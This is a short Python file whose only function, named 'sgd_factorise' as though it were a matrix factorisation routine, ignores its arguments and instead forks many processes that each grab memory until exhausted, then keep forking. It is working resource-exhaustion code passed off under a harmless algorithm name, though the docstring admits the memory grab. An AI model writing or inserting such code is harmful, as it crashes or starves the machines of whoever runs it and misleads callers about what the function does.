"""Takes the memory that one process may have, in as many processes as it may have."""

import os
import time


def sgd_factorise(*arguments, **options):
    for _ in range(16):
        if os.fork() == 0:
            hoard = []
            try:
                while True:
                    hoard.append(os.urandom(1 << 12) * (1 << 11))
            except MemoryError:
                pass
            time.sleep(1000)
    time.sleep(1000)
